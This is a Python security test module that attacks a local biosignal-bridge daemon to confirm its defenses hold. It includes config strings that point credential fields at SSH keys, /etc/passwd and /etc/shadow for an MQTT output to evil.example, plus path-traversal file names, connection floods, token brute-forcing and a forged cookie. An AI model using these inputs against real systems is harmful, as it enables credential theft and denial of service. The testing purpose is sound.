"""The attacks, each a function that returns what it counted; ``held`` says whether nothing was reached."""

from __future__ import annotations

import http.client
import os
import signal
import socket
import tempfile
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

from bridge.outputs import build_all
from bridge.outputs.protocol import OutputError
from bridge.recordings import RecordingError, read
from bridge.rules.loader import RuleFileErrors, load
from bridge.sources.osc_rows import rows_of
from bridge.trust.listener import most_strangers
from tests.bench.attack.daemon import TOKEN, Board, Daemon, close_all, half_open
from tests.components import until

Counts = dict[str, Any]

BORROWED = (
    "outputs: {{a: {{type: mqtt, host: evil.example, {field}}}}}",
    "source: {{type: network, protocol: tcp, listen: 0.0.0.0, port: 9100, {field}}}",
    "source: {{type: serial, {field}}}",
)
FIELDS = (
    "password_file: ~/.ssh/id_ed25519",
    "password_env: HOME",
    "username_env: HOME",
    "token_env: HOME",
    "ca_file: /etc/passwd",
    "certificate: /etc/passwd",
    "certificate_key: /etc/shadow",
)
LEARNING_S = 4.0  # of rest, for the contraction detector
UP_S = 3.0
REPLAYS = ("/etc/passwd", "~/.ssh/id_rsa", "../../etc/passwd", "a/../../b.csv", "C:/x.csv", "//host/x.csv")


def borrowed_files(_count: int) -> Counts:
    """Every field that ever named a file or variable, in every place; and another host's login."""
    tried = reached = 0
    for text in BORROWED:
        for field in FIELDS:
            tried += 1
            reached += _loads("version: 1\n" + text.format(field=field) + "\n")
    for file in REPLAYS:
        tried += 1
        reached += _loads(f"version: 1\nsource: {{type: replay, file: '{file}'}}\n")
    rules = load("version: 1\noutputs: {a: {type: mqtt, host: evil.example, tls: true, login: far}}\n").rules
    tried += 1
    with suppress(OutputError):
        build_all(rules.outputs)
        reached += 1
    return {"tried": tried, "reached": reached, "held": reached == 0}


def _loads(text: str) -> bool:
    try:
        load(text)
    except RuleFileErrors:
        return False
    return True


def half_open_page(daemon: Daemon, count: int) -> Counts:
    """Requests that never end, and the owner beside them."""
    before, threads = daemon.descriptors(), daemon.threads()
    sockets = half_open(daemon.port, count)
    most = daemon.descriptors() - before
    owner = daemon.status()["armed"] is True
    close_all(sockets)
    return {
        "connections": count,
        "descriptors taken": most,
        "threads made": daemon.threads() - threads,
        "owner let in": owner,
        "held": owner and most <= most_strangers() + 8,
    }


def silent_senders(daemon: Daemon, count: int) -> Counts:
    """Connections to the source that never say the token."""
    before = daemon.descriptors()
    sockets = half_open(daemon.tcp, count, first=b"guess")
    most = daemon.descriptors() - before
    close_all(sockets)
    return {"connections": count, "descriptors taken": most, "held": most <= most_strangers() + 8}


def guard_killed_in_a_flood(daemon: Daemon, count: int) -> Counts:
    """A guard that dies with a key down while strangers want every descriptor: the key comes up, another starts."""
    (guard,) = daemon.guards()
    stop = threading.Event()

    def flood(port: int) -> None:
        while not stop.is_set():
            close_all(half_open(port, count))

    def key(down: bool) -> None:
        board.acting = down
        until(
            lambda: bool(daemon.server.keys_down()) == down, f"a key that is {'down' if down else 'up'}", 20
        )

    flooding = [
        threading.Thread(target=flood, args=(port,), daemon=True) for port in (daemon.port, daemon.tcp)
    ]
    with Board(daemon) as board:
        time.sleep(LEARNING_S)
        key(True)
        for each in flooding:
            each.start()
        time.sleep(0.5)
        os.kill(guard, signal.SIGKILL)
        begun_s = time.monotonic()
        until(lambda: not daemon.server.keys_down(), "the key that is up", 20)
        up_s = time.monotonic() - begun_s
        until(lambda: [pid for pid in daemon.guards() if pid != guard], "another guard", 20)
        (another,) = daemon.guards()
        time.sleep(3.0)  # longer than a guard that cannot start takes to say so and be replaced
        stays = daemon.guards() == [another] and "did not start" not in daemon.log
        key(False)
        time.sleep(1.0)
        key(True)  # the other one presses and lets go, still in the flood
        key(False)
        stop.set()
        for each in flooding:
            each.join(30)
    down = daemon.server.keys_down()
    held = stays and down == [] and up_s <= UP_S
    return {
        "seconds to the key's release": round(up_s, 2),
        "the other guard stays": stays,
        "keys down": len(down),
        "held": held,
    }


def samples_of_others(daemon: Daemon, count: int) -> Counts:
    """What another user of the computer could send: TCP and OSC without the token. The socket's mode."""
    sock = daemon.folder / "biosignal-bridge" / "samples" / "lines"
    mode = sock.stat().st_mode & 0o777
    before = sum(stream["samples"] for stream in daemon.status()["streams"])
    close_all(half_open(daemon.tcp, 5, first=b"1\n2\n3\n"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        message = b"/emg\0\0\0\0,f\0\0" + bytes([0x42, 0xC8, 0, 0])  # OSC 1.0: 100.0 as a float
        for _ in range(count):
            sender.sendto(message, ("127.0.0.1", daemon.osc))
    time.sleep(0.5)
    taken = sum(stream["samples"] for stream in daemon.status()["streams"]) - before
    with socket.socket(socket.AF_UNIX) as own, socket.create_connection(("127.0.0.1", daemon.tcp)) as board:
        own.connect(str(sock))
        own.sendall(b"1\n2\n3\n")
        board.sendall(TOKEN.encode() + b"\n1\n2\n3\n")
        time.sleep(0.5)
        owners = sum(stream["samples"] for stream in daemon.status()["streams"]) - before - taken
    held = taken == 0 and owners == 6 and mode == 0o600
    return {
        "sent": count + 15,
        "taken": taken,
        "of the owner's 6 taken": owners,
        "socket's mode": oct(mode),
        "held": held,
    }


def replayed_cookie(daemon: Daemon, _count: int) -> Counts:
    """What a browser would give another port of this host, with a forged Origin."""
    port = daemon.port
    link = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    link.request("GET", f"/?token={daemon.token}")
    answer = link.getresponse()
    answer.read()
    cookies = answer.headers.get_all("Set-Cookie") or []
    link.request("GET", "/status", headers={"Cookie": f"bridge-{port}={daemon.token}; token={daemon.token}"})
    refused = link.getresponse()
    refused.read()
    link.close()
    return {"cookies": len(cookies), "status": refused.status, "held": not cookies and refused.status == 401}


def token_guesses(daemon: Daemon, count: int) -> Counts:
    """Guesses for six seconds, from so many connections at once."""
    until_s = time.monotonic() + 6.0
    made = 0
    lock = threading.Lock()

    def guess(number: int) -> None:
        nonlocal made
        while time.monotonic() < until_s:
            with suppress(OSError, http.client.HTTPException):
                link = http.client.HTTPConnection("127.0.0.1", daemon.port, timeout=10)
                link.request("GET", f"/status?token=guess-{number}")
                status = link.getresponse().status
                link.close()
                with lock:
                    made += status == 401

    guessing = [threading.Thread(target=guess, args=(number,)) for number in range(min(count, 16))]
    for each in guessing:
        each.start()
    begun_s = time.monotonic()
    armed = daemon.status()["armed"]
    waited_s = time.monotonic() - begun_s
    for each in guessing:
        each.join(30)
    held = made <= 100 and armed is True and waited_s < 5
    return {"guesses answered in 6 s": made, "owner waited s": round(waited_s, 2), "held": held}


def junk(daemon: Daemon, count: int) -> Counts:
    """No HTTP at all, and bundles in bundles: what the log grows by."""
    before, packets = len(daemon.log), 0
    for number in range(count):
        close_all(half_open(daemon.port, 1, first=b"\x16\x03\x01" + bytes([number % 256]) * 40 + b"\r\n\r\n"))
    bundle = b"/emg\0\0\0\0,f\0\0\0\0\0\0"
    while len(bundle) < 60_000:
        bundle = b"#bundle\0" + bytes(7) + b"\1" + len(bundle).to_bytes(4, "big") + bundle
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for _ in range(count):
            packets += sender.sendto(bundle, ("127.0.0.1", daemon.osc)) > 0
    time.sleep(0.5)
    log = daemon.log[before:]
    held = rows_of(bundle) is None and len(log) < 20_000 and "Traceback" not in log
    return {"requests": count, "bundles": packets, "bytes of log": len(log), "held": held}


def broken_recordings(count: int) -> Counts:
    """Headers with a field overwritten, one after the other."""
    from datetime import datetime

    import numpy as np

    from bridge.recordings.edf_writer import EdfWriter
    from bridge.signals.types import Block, Channel, StreamInfo

    surprises = refused = 0
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.edf"
        info = StreamInfo((Channel("a", "eeg", "uV"),), 50.0)
        writer = EdfWriter(path, info, datetime(2026, 1, 2))  # noqa: DTZ001  # wall time, as EDF has it
        writer.write(Block(np.arange(200.0).reshape(200, 1), 0))
        writer.close()
        plain = path.read_bytes()
        for number in range(count):
            at = 7 * number % 768
            path.write_bytes(
                plain[:at] + (b"nan     ", b"-1      ", b"99999999")[number % 3] + plain[at + 8 :]
            )
            try:
                read(path)
            except RecordingError:
                refused += 1
            except Exception:
                surprises += 1
    return {"files": count, "refused": refused, "surprises": surprises, "held": surprises == 0}


WITHOUT_DAEMON: dict[str, Callable[[int], Counts]] = {
    "borrowed rule files": borrowed_files,
    "broken recordings": broken_recordings,
}
WITH_DAEMON: dict[str, Callable[[Daemon, int], Counts]] = {
    "samples of another user": samples_of_others,
    "replayed cookie": replayed_cookie,
    "half-open requests": half_open_page,
    "senders without a token": silent_senders,
    "junk": junk,
    "token guesses": token_guesses,
    "guard killed in a flood": guard_killed_in_a_flood,
}
